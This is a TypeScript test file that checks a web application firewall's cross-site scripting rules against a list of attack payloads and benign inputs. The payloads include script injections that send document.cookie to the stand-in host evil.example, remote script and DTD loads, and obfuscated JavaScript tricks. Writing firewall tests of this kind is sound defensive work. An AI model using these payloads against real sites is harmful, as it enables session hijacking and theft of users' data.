import test from "ava";
import { appRequests, checkRules, client, filePart, multipartBody, multipartType, placeCases, ruleFile, showIdMatch, testBlocks, testPasses, xmlText, type WafInput } from "./support.js";

const file = ruleFile("141-xss.yaml", "/app");
const { get, post } = client("x", "/app");
/** The places this file encodes like the other rule tests. */
const sameAsElsewhere = appRequests({ encoding: "utf8", xml: "element" });

type Place = "query" | "name" | "form" | "json" | "xml" | "cookie" | "ua" | "referer" | "header" | "path" | "upload";

/** The value placed where an injection arrives; encoded the way a client would send it there. */
function request(place: Place, value: string): WafInput {
  switch (place) {
    case "query":
    case "ua":
    case "referer":
      return sameAsElsewhere(place, value);
    case "name":
      return get(`/app?${encodeURIComponent(value)}=1`);
    case "form":
      return post("application/x-www-form-urlencoded", `a=1&v=${encodeURIComponent(value)}`);
    case "json":
      return post("application/json", JSON.stringify({ data: { v: value, n: 3 } }));
    case "xml":
      return post("application/xml", `<?xml version="1.0"?><r><v>${xmlText(value).replace(/>/g, "&gt;")}</v></r>`);
    case "cookie":
      return get("/app", [["cookie", `a=1; v=${encodeURIComponent(value)}`]]);
    case "header":
      return get("/app", [["x-client-note", value]]);
    case "path":
      return get(`/app/${encodeURIComponent(value)}`);
    case "upload": {
      const b = "----b0undary";
      return post(multipartType(b), multipartBody(b, [filePart("f", value, "image/png", "PNG")]));
    }
  }
}

// [place, payload, lowest paranoia level that blocks it]
const ATTACKS: readonly (readonly [Place, string, number])[] = [
  // markup the tokenizer judges
  ["query", '"><svg/onload=alert(document.domain)>', 1],
  ["form", "<img src=x onerror=prompt(1)>", 1],
  ["json", '<iframe src="javascript:alert(1)"></iframe>', 1],
  ["cookie", "<script>alert(1)</script>", 1],
  ["ua", "Mozilla/5.0 <script src=//evil.example/x.js></script>", 1],
  ["path", "<body onpageshow=alert(1)>", 1],
  ["upload", "<img src=x onerror=alert(1)>.png", 1],
  ["name", "<svg/onload=alert(1)>", 1],
  ["json", "<details open ontoggle=alert(1)>", 1],
  ["form", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 1],
  ["query", '<object data="data:text/html,<script>alert(1)</script>">', 1],
  ["query", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x', 1],
  ["xml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', 1],
  ["query", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", 1],
  // handler fragments and script elements in any header
  ["referer", 'https://evil.example/?q=" autofocus onfocus=alert(1) x="', 1],
  ["ua", "' onmouseover=alert(1) x='", 1],
  ["header", "<script>fetch('//evil.example/'+document.cookie)</script>", 1],
  ["header", "x\" onpointerenter=alert(1) \"", 1],
  ["query", "  onanimationstart= 1", 1],
  // tag tricks, legacy elements, smuggling charsets
  ["query", "< s c r i p t >alert(1)", 1],
  ["cookie", "<:vmlframe src=//evil.example/x.vml>", 1],
  ["form", '<link rel=import href="//evil.example/x.html">', 1],
  ["form", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 1],
  // script URLs and CSS
  ["form", "javascript:alert(document.cookie)", 1],
  ["query", "java&#x09;script:alert(1)", 1],
  ["query", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", 1],
  ["json", "vbscript:msgbox(1)", 1],
  ["form", '<div style="background:url(javascript:alert(1))">', 1],
  ["query", "width: expression(alert(1))", 1],
  ["query", "<style>@import 'https://evil.example/x.css';</style>", 1],
  ["form", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', 1],
  // XML vectors
  ["form", '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://evil.example/x"/></r>', 1],
  ["query", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>', 1],
  // JavaScript without markup
  ["json", "';document.location='https://evil.example/?c='+document.cookie;//", 1],
  ["query", "window['al'+'ert'](1)", 1],
  ["form", 'top["eval"]("ale"+"rt(1)")', 1],
  ["query", "(document)['cookie']", 1],
  ["form", "document /*x*/ . cookie", 1],
  ["query", "String.fromCharCode(88,83,83)", 1],
  ["cookie", "x';setTimeout('alert(1)',0);//", 1],
  ["query", "[].map.call`${eval}\\u0061lert(1)`", 1],
  ["form", "alert`1`", 1],
  ["query", "(!![]+[])[+!+[]]", 1],
  ["query", "{{constructor.constructor('alert(1)')()}}", 1],
  ["form", "document.getElementById('x').innerHTML = location.hash", 1],
  // stricter levels
  ["query", "<b>bold</b>", 2],
  ["referer", "https://x.example/?q=<iframe src=//evil.example>", 2],
  ["form", "see below --> then", 2],
  ["query", "{{user.name}}", 2],
  ["form", "console.log(1)", 2],
  ["form", "' in foo.bar=1", 2],
  ["form", "a <q>quote</q>", 2],
  ["query", "<custom-widget>", 3],
];

testBlocks(file, placeCases(ATTACKS, request), { show: showIdMatch });

// Benign values that must pass at PL1; those marked true must also pass at PL2.
const BENIGN: readonly (readonly [Place, string, boolean])[] = [
  ["query", "red running shoes", true],
  ["form", "O'Brien & Sons", true],
  ["json", "Meet at 10:30 (room 4), bring snacks :)", true],
  ["query", "a < b && c > d", true],
  ["query", "I <3 JavaScript: the good parts", true],
  ["form", "Price: $20 <= $30", true],
  ["json", "john.doe+test@example.com", true],
  ["query", "2024-03-01T10:00:00Z", true],
  ["form", "C:\\Users\\bob\\new\\table.txt", true],
  ["query", "https://example.com/page?x=1&y=2#top", true],
  ["form", "![diagram](https://example.com/d.png) **bold** _it_ `code`", true],
  ["form", "Please confirm (by email) and alert (the team)", true],
  ["query", "Please sign the document. Cookies are optional.", true],
  ["json", 'He said "on second thought" = no', true],
  ["cookie", '{"theme":"dark","lang":"en"}', true],
  ["ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", true],
  ["referer", "https://www.google.com/search?q=onload+event+javascript&hl=en", true],
  ["path", "how-to-use-css-grid", true],
  ["query", "import data from CSV (comma separated)", true],
  ["form", "5 > 3 and 2 < 4, x = a ? b : c", true],
  ["json", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk", true],
  ["upload", "holiday photo (1).jpg", true],
  ["xml", "Call me at 555-1234; fax 555-9876", true],
  ["query", "top 10 windows tips; self-help for parents", true],
  ["form", "Mix 3¼ cups of flour with ¾ cup of sugar", true],
  ["form", "Мама мыла раму, а молоко и мёд на столе. Москва, ул. Тверская", true],
  ["form", "你好，世界。欢迎使用我们的服务，请确认您的订单。", true],
  ["form", "مرحبا بالعالم، شكرا لاستخدامكم خدمتنا", true],
  ["json", "The function returns a value; call it twice, then apply the fix", true],
  ["header", "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51", true],
  ["query", "ratio 1:2 == 0.5", true],
  ["form", "Set an alert(s) for price drops", true],
  ["form", "def __init__(self, name):\n    self.name = name", true],
  ["form", "<Re: form submission>", true],
  ["form", "Model ADW-100 > 50W, AD4 adapter", true],
  ["form", "Use `Function.prototype.call` and `bind`", true],
  ["query", "java script: notes", true],
  ["form", "Data: see table, <b>below</b>", false],
  ["form", "Use the <b> tag for bold", false],
  ["json", "Meeting notes --> see attached", false],
  ["query", "Hello {{name}}", false],
];

testPasses(file, placeCases(BENIGN, request));

test("an event handler needs a value: base64 padding and a bare name at the end stay quiet", (t) => {
  t.is(file.verdict(1, request("query", "VGhhbmtzLCBmb3IgYWxs/onafe=")).action, "pass");
  t.is(file.verdict(1, request("query", "abc onclickx==")).action, "pass");
  t.is(file.verdict(1, request("query", "abc onclick=x")).action, "block");
});

test("every rule is in the file's id range, tagged attack-xss and owasp-a03, and each level has rules", (t) => {
  t.true(file.rules.length >= 8);
  checkRules(t, file, ["attack-xss", "owasp-a03"]);
  for (const pl of [1, 2, 3]) t.true(file.rules.some((r) => r.paranoia === pl), `PL${pl}`);
});
